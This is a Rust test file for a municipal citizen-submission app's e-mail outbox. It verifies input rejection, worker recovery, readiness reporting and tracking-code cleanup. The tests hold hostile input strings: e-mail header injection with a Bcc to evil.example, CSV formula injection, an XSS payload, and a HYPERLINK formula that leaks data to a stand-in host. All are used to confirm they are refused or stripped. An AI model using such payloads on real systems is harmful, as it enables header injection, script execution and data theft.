//! Mail (H1, M6, L1): a name with header lines is refused on every channel; a message that
//! cannot be built fails with its reason and never stops the outbox; the worker survives a
//! panic and `/readyz` says when it is down; the receipt carries nothing the citizen typed; no
//! tracking code stays in the outbox once a message has ended.

use crate::helpers::{TestApp, named, spawn_app_configured};
use crate::mailsink::{MailSink, free_port};
use jiff::Timestamp;
use priemna_app::notify::{Notifier, SmtpConfig, TlsMode, WorkerConfig, WorkerHandle};
use priemna_domain::Clock;
use priemna_domain::clock::local_date;
use priemna_domain::submission::{RawSubmission, RawSubmitter, validate};
use priemna_letters::Letterhead;
use priemna_store::{MessageKind, NewSubmission, Recipient, SubmissionExtras};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// A working day, 10:00 in Sofia.
const NOW: &str = "2026-12-04T08:00:00Z";

/// The review's name: a line break, then headers of the attacker's choosing.
const INJECTED_NAME: &str = "Eve\r\nBcc: victim@evil.example\r\nX-Injected: yes";

fn notifier(smtp_configured: bool) -> Notifier {
    let mut n = Notifier::new(
        Letterhead::default(),
        "priemna@haskovo.bg".into(),
        None,
        Some("https://priemna.haskovo.bg".into()),
    );
    n.smtp_configured = smtp_configured;
    n
}

/// A server that sends e-mail (its worker is started by the test), with an administrator.
async fn mail_app() -> TestApp {
    let app = spawn_app_configured(NOW, |s| s.with_notifier(notifier(true))).await;
    app.add_staff("admin", "administrator", None, false).await;
    app
}

/// The worker's clock: the real time, or a panic while `fail` is set.
struct FlakyClock {
    fail: Arc<AtomicBool>,
}

impl Clock for FlakyClock {
    fn now(&self) -> Timestamp {
        assert!(
            !self.fail.load(Ordering::SeqCst),
            "test: the outbox worker's clock fails"
        );
        priemna_app::SystemClock.now()
    }
}

fn worker_config(port: u16) -> WorkerConfig {
    let mut config = WorkerConfig::new(SmtpConfig {
        host: "127.0.0.1".into(),
        port: Some(port),
        tls: TlsMode::None,
        username: None,
        password: None,
        timeout: Duration::from_secs(5),
    });
    config.poll = Duration::from_millis(200);
    config.lease = Duration::from_secs(10);
    config.retry_base = Duration::from_millis(200);
    config.retry_max = Duration::from_millis(400);
    config.restart_pause = Duration::from_millis(500);
    config
}

fn start_worker(app: &TestApp, config: WorkerConfig) -> WorkerHandle {
    priemna_app::notify::spawn_worker(app.state.app.clone(), config).unwrap()
}

fn proposal(email: &str) -> Value {
    let mut submitter = named();
    submitter["email"] = json!(email);
    json!({"kind": "proposal", "channel": "web", "subject": "Пейка в парка",
           "body": "Моля, поставете пейка.", "consent": true, "submitter": submitter})
}

/// How many tracking codes the outbox keeps in plain text.
async fn secrets_kept(app: &TestApp) -> i64 {
    let sql = "SELECT COUNT(*) FROM outbox WHERE secret IS NOT NULL";
    if app.database_url.starts_with("postgres") {
        let pool = sqlx::PgPool::connect(&app.database_url).await.unwrap();
        let n = sqlx::query_scalar(sql).fetch_one(&pool).await.unwrap();
        pool.close().await;
        n
    } else {
        let pool = sqlx::SqlitePool::connect(&app.database_url).await.unwrap();
        let n = sqlx::query_scalar(sql).fetch_one(&pool).await.unwrap();
        pool.close().await;
        n
    }
}

/// The outbox as the administrator sees it.
async fn outbox(app: &TestApp) -> Value {
    let admin = app.login("admin").await;
    let (status, body) = admin.get("/api/v1/outbox").await;
    assert_eq!(status, 200, "{body}");
    body
}

/// Waits until `ready` holds for the outbox, and returns it.
async fn outbox_until(app: &TestApp, what: &str, ready: impl Fn(&Value) -> bool) -> Value {
    let start = Instant::now();
    loop {
        let body = outbox(app).await;
        if ready(&body) {
            return body;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "{what}: {body:#}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// `GET /readyz`: status and body.
async fn readyz(app: &TestApp) -> (u16, Value) {
    let response = app.client.get(app.url("/readyz")).send().await.unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap())
}

async fn readyz_until(app: &TestApp, status: u16) -> Value {
    let start = Instant::now();
    loop {
        let (s, body) = readyz(app).await;
        if s == status {
            return body;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "/readyz stayed {s}: {body}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Registers a submission through the store as an older version would have: its receipt
/// queued to `email` with the display name `name`, whatever they hold.
async fn queue_old_receipt(app: &TestApp, email: &str, name: Option<&str>) {
    let at: Timestamp = NOW.parse().unwrap();
    let raw = RawSubmission {
        kind: Some("proposal".into()),
        channel: Some("web".into()),
        subject: Some("Пейка".into()),
        body: Some("b".into()),
        submitter: Some(RawSubmitter {
            name: Some("Eve".into()),
            email: Some("eve1@example.bg".into()),
            ..RawSubmitter::default()
        }),
        consent: Some(true),
        ..RawSubmission::default()
    };
    let mut draft = validate(&raw, local_date(at)).unwrap();
    if let Some(name) = name {
        draft.submitter.as_mut().unwrap().name = name.to_owned();
    }
    let assessment = priemna_domain::rules::assess(&draft, local_date(at), &app.state.calendar);
    let mut receipt =
        priemna_app::notify::messages::receipt(&app.state.notify, &draft, &assessment, at).unwrap();
    receipt.recipient = Recipient::Address {
        email: email.to_owned(),
        name: name.map(str::to_owned),
    };
    app.store
        .register(NewSubmission {
            draft,
            assessment,
            received_at: at,
            entered_by: "citizen".into(),
            messages: vec![receipt],
            extras: SubmissionExtras::default(),
        })
        .await
        .unwrap();
}

#[tokio::test]
async fn a_name_carrying_header_lines_is_refused_on_every_channel() {
    let app = spawn_app_configured(NOW, |s| s.with_notifier(notifier(true))).await;

    // The JSON API: the review's exact request.
    let (status, body) = app
        .submit(
            json!({"kind": "proposal", "channel": "web", "subject": "…", "body": "b",
                       "consent": true, "submitter": {"name": INJECTED_NAME, "email": "eve1@example.bg"}}),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    let fields = body["error"]["fields"].as_array().unwrap();
    assert_eq!(fields.len(), 1, "{body}");
    assert_eq!(fields[0]["field"], "submitter.name", "{body}");
    assert_eq!(fields[0]["code"], "not_single_line", "{body}");

    // The subject, and the addresses, are one line too.
    for (field, value) in [
        ("subject", json!("Пейка\r\nBcc: victim@evil.example")),
        ("address", json!("парк\u{2028}Кенана")),
    ] {
        let mut request = proposal("eve1@example.bg");
        request[field] = value;
        let (status, body) = app.submit(request).await;
        assert_eq!(status, 422, "{body}");
        assert_eq!(body["error"]["fields"][0]["field"], field, "{body}");
    }

    // The portal's form: the error next to the name, in Bulgarian (and English on request).
    for (lang, expected) in [("bg", "един ред"), ("en", "one line")] {
        let boundary = "----priemna-attack-mail";
        let mut form = String::new();
        for (name, value) in [
            ("kind", "proposal"),
            ("subject", "Пейка в парка"),
            ("body", "Моля, поставете пейка."),
            ("identity", "named"),
            ("name", INJECTED_NAME),
            ("email", "eve1@example.bg"),
            ("consent", "on"),
        ] {
            form.push_str(&format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            ));
        }
        form.push_str(&format!("--{boundary}--\r\n"));
        let response = app
            .client
            .post(app.url(&format!("/submit?lang={lang}")))
            .header(
                "content-type",
                format!("multipart/form-data; boundary={boundary}"),
            )
            .body(form)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 422);
        let page = response.text().await.unwrap();
        assert!(page.contains(r#"id="name-error""#), "{page}");
        assert!(page.contains(expected), "{lang}: {page}");
    }

    // Open311: a client error naming the field, not a server error.
    let (_, key) =
        priemna_app::api_keys::create_key(&app.state, "test", "Градско приложение", false)
            .await
            .unwrap();
    let response = app
        .client
        .post(app.url("/open311/v2/requests.json"))
        .form(&[
            ("api_key", key.as_str()),
            ("service_code", "street_lighting"),
            ("lat", "41.9342"),
            ("long", "25.5581"),
            ("description", "Не свети лампата пред входа."),
            ("attribute[problem]", "not_lit"),
            ("first_name", INJECTED_NAME),
            ("email", "eve1@example.bg"),
        ])
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let body = response.text().await.unwrap();
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("first_name"), "{body}");

    assert_eq!(app.count().await, 0, "nothing was registered");
}

#[tokio::test]
async fn a_message_that_cannot_be_built_fails_with_its_reason_and_the_next_receipt_is_delivered() {
    let app = mail_app().await;
    let mail_dir = tempfile::tempdir().unwrap();
    let sink = MailSink::start_anywhere(mail_dir.path(), &[]);

    // Rows an older version wrote: the review's name as the display name (it can be written
    // on one line, so it goes, without its header lines), and the same text as the address
    // (it cannot: failed for good, with the reason).
    queue_old_receipt(&app, "eve1@example.bg", Some(INJECTED_NAME)).await;
    queue_old_receipt(&app, INJECTED_NAME, None).await;
    let worker = start_worker(&app, worker_config(sink.port));

    // The next normal submission's receipt arrives.
    let (number, code) = app.registered(proposal("normal@example.bg")).await;
    let messages = sink.wait_for(2, Duration::from_secs(20)).await;
    let to_normal = messages
        .iter()
        .find(|m| m["rcpt_tos"] == json!(["normal@example.bg"]))
        .unwrap_or_else(|| panic!("no receipt to normal@example.bg: {messages:#?}"));
    assert!(to_normal["text"].as_str().unwrap().contains(&code));
    assert!(to_normal["text"].as_str().unwrap().contains(&number));

    // Eve's old row went to Eve alone, its name on one line, no header of hers added.
    let to_eve = messages
        .iter()
        .find(|m| m["rcpt_tos"] == json!(["eve1@example.bg"]))
        .unwrap_or_else(|| panic!("no message to eve1@example.bg: {messages:#?}"));
    let headers = to_eve["headers"].as_object().unwrap();
    assert!(!headers.contains_key("x-injected"), "{to_eve:#}");
    assert!(!headers.contains_key("bcc"), "{to_eve:#}");
    assert!(
        headers["to"]
            .as_str()
            .unwrap()
            .ends_with("<eve1@example.bg>"),
        "{to_eve:#}"
    );
    assert!(
        messages
            .iter()
            .all(|m| !m["rcpt_tos"].to_string().contains("evil.example")),
        "{messages:#?}"
    );

    // The unbuildable one failed for good, with the reason; its code is forgotten.
    let body = outbox_until(&app, "one failed, two sent", |o| {
        o["counts"]["failed"] == 1 && o["counts"]["sent"] == 2
    })
    .await;
    let failed = body["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["state"] == "failed")
        .unwrap();
    let reason = failed["last_error"].as_str().unwrap();
    assert!(reason.contains("cannot be built"), "{reason}");
    assert!(reason.contains("recipient address"), "{reason}");
    assert_eq!(failed["attempts"], 1, "not retried: {failed}");
    assert_eq!(body["counts"]["sent"], 2, "{body}");
    assert_eq!(body["worker"]["state"], "running", "{body}");
    assert_eq!(body["worker"]["restarts"], 0, "{body}");
    assert!(body["worker"]["last_sent_at"].is_string(), "{body}");
    assert_eq!(secrets_kept(&app).await, 0);

    // The administrators' page shows the same, to administrators only.
    app.add_staff("auditor", "auditor", None, false).await;
    for (user, expected) in [("admin", 200), ("auditor", 403)] {
        let staff = app.login(user).await;
        let page = app
            .client
            .get(app.url("/staff/admin/outbox"))
            .bearer_auth(&staff.token)
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), expected, "{user}");
        if expected == 200 {
            let page = page.text().await.unwrap();
            assert!(page.contains(r#"data-state="running""#), "{page}");
            assert!(page.contains("cannot be built"), "{page}");
            assert!(!page.contains("eve1@example.bg"), "{page}");
            // The kind of the failed message in words, not the outbox's code.
            let kind = failed["kind"].as_str().unwrap();
            assert!(
                !page.contains(&format!(">{kind}<")),
                "{kind} shown as a code"
            );
            // A kind the register knows, so it has its words.
            let kind = MessageKind::parse(kind).expect("a known message kind");
            assert!(page.contains(priemna_app::notify::message_kind_bg(kind)));
        }
    }
    worker.stop(Duration::from_secs(5)).await;
}

#[tokio::test]
async fn the_worker_survives_a_panic_and_readyz_says_unready_while_it_is_down() {
    let app = mail_app().await;
    let mail_dir = tempfile::tempdir().unwrap();
    let sink = MailSink::start_anywhere(mail_dir.path(), &[]);

    // Before any worker: a server that should send e-mail is not ready; liveness is unchanged.
    let body = readyz_until(&app, 503).await;
    assert_eq!(body["outbox_worker"], "not_started", "{body}");
    assert_eq!(app.get_json("/healthz").await["status"], "ok");

    let fail = Arc::new(AtomicBool::new(true));
    let mut config = worker_config(sink.port);
    config.clock = Arc::new(FlakyClock { fail: fail.clone() });
    let worker = start_worker(&app, config);
    app.registered(proposal("first@example.bg")).await;

    // The worker panics at once, again and again: the supervisor restarts it, and readiness
    // says so with the reason (liveness still answers ok).
    let body = readyz_until(&app, 503).await;
    assert_eq!(body["status"], "unready", "{body}");
    assert_eq!(body["database"], "ok", "{body}");
    assert_eq!(body["outbox_worker"], "restarting", "{body}");
    assert!(
        body["reasons"].to_string().contains("outbox worker"),
        "{body}"
    );
    assert_eq!(app.get_json("/healthz").await["status"], "ok");
    let body = outbox_until(&app, "restarted twice", |o| {
        o["worker"]["restarts"].as_u64().unwrap_or(0) >= 2
    })
    .await;
    assert!(
        body["worker"]["last_error"]
            .as_str()
            .unwrap()
            .contains("panicked"),
        "{body}"
    );
    assert!(sink.messages().is_empty());

    // Once the fault is gone, the next start runs: ready, and the waiting receipt goes.
    fail.store(false, Ordering::SeqCst);
    let body = readyz_until(&app, 200).await;
    assert_eq!(body["status"], "ready", "{body}");
    assert_eq!(body["outbox_worker"], "running", "{body}");
    assert_eq!(body["reasons"], json!([]), "{body}");
    app.registered(proposal("second@example.bg")).await;
    let messages = sink.wait_for(2, Duration::from_secs(20)).await;
    let mut to: Vec<String> = messages.iter().map(|m| m["rcpt_tos"].to_string()).collect();
    to.sort();
    assert_eq!(
        to,
        [r#"["first@example.bg"]"#, r#"["second@example.bg"]"#],
        "{messages:#?}"
    );

    // Stopped with the server: not ready any more.
    worker.stop(Duration::from_secs(5)).await;
    let body = readyz_until(&app, 503).await;
    assert_eq!(body["outbox_worker"], "stopped", "{body}");
}

#[tokio::test]
async fn a_server_without_smtp_is_ready_and_keeps_no_tracking_codes() {
    let app = spawn_app_configured(NOW, |s| s.with_notifier(notifier(false))).await;
    app.add_staff("admin", "administrator", None, false).await;
    let (status, body) = readyz(&app).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["outbox_worker"], "not_configured", "{body}");

    // The receipt waits in the outbox for the record, without the code nothing would send.
    app.registered(proposal("ivan@example.bg")).await;
    let body = outbox(&app).await;
    assert_eq!(body["counts"]["queued"], 1, "{body}");
    assert_eq!(body["worker"]["state"], "not_started", "{body}");
    assert_eq!(secrets_kept(&app).await, 0);
}

#[tokio::test]
async fn the_receipt_email_carries_nothing_the_citizen_typed() {
    let app = mail_app().await;
    let mail_dir = tempfile::tempdir().unwrap();
    let sink = MailSink::start_anywhere(mail_dir.path(), &[]);
    let worker = start_worker(&app, worker_config(sink.port));

    // The review's row 37: a spreadsheet formula and markup as the name, a formula as the
    // subject, sent to an address nobody verified.
    let name = "@SUM(1+1)*cmd|' /C calc'!A0 \"'><img src=x onerror=alert(1)>";
    let subject = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    let body_text = "Кликнете тук: http://evil.example/win";
    let (number, code) = app
        .registered(
            json!({"kind": "proposal", "channel": "web", "subject": subject,
                           "body": body_text,
                           "consent": true, "submitter": {"name": name, "email": "eve2@example.bg"}}),
        )
        .await;
    let messages = sink.wait_for(1, Duration::from_secs(20)).await;
    let receipt = &messages[0];
    assert_eq!(receipt["rcpt_tos"], json!(["eve2@example.bg"]));

    // No display name from the form in `To:`.
    assert_eq!(receipt["headers"]["to"], "eve2@example.bg", "{receipt:#}");
    let whole = receipt.to_string();
    for typed in [
        "SUM(",
        "calc",
        "onerror",
        "HYPERLINK",
        "evil.example",
        "Кликнете",
        "Пейка",
    ] {
        assert!(!whole.contains(typed), "{typed:?} in {receipt:#}");
    }

    // What the citizen must recognise, and where to track.
    let text = receipt["text"].as_str().unwrap();
    assert_eq!(text.lines().next(), Some("Здравейте,"), "{text}");
    for expected in [
        format!("Входящ номер: {number}"),
        format!("Код за проследяване: {code}"),
        "Регистрирано на: 04.12.2026 г., 10:00 ч.".to_owned(),
        "Вид: предложение".to_owned(),
        "Срок за отговор: до ".to_owned(),
        "https://priemna.haskovo.bg/track".to_owned(),
        format!("Tracking code: {code}"),
        "Kind: proposal".to_owned(),
    ] {
        assert!(
            text.contains(&expected),
            "{expected:?} missing from:\n{text}"
        );
    }
    let html = receipt["html"].as_str().unwrap();
    assert!(html.contains(&code) && html.contains(&number), "{html}");

    // Sent: its code is forgotten.
    outbox_until(&app, "the receipt is sent", |o| o["counts"]["sent"] == 1).await;
    assert_eq!(secrets_kept(&app).await, 0);
    worker.stop(Duration::from_secs(5)).await;
}

#[tokio::test]
async fn no_tracking_code_stays_in_the_outbox_once_a_message_fails_for_good() {
    let app = mail_app().await;
    // Nobody listens on this port: every attempt fails, and after the last the message fails.
    let mut config = worker_config(free_port());
    config.max_attempts = 2;
    app.registered(proposal("ivan@example.bg")).await;
    assert_eq!(
        secrets_kept(&app).await,
        1,
        "kept while it may still be sent"
    );
    let worker = start_worker(&app, config);
    let body = outbox_until(&app, "the receipt fails", |o| o["counts"]["failed"] == 1).await;
    assert_eq!(body["messages"][0]["attempts"], 2, "{body}");
    assert!(body["worker"]["last_error"].is_string(), "{body}");
    assert_eq!(secrets_kept(&app).await, 0);
    worker.stop(Duration::from_secs(5)).await;
}
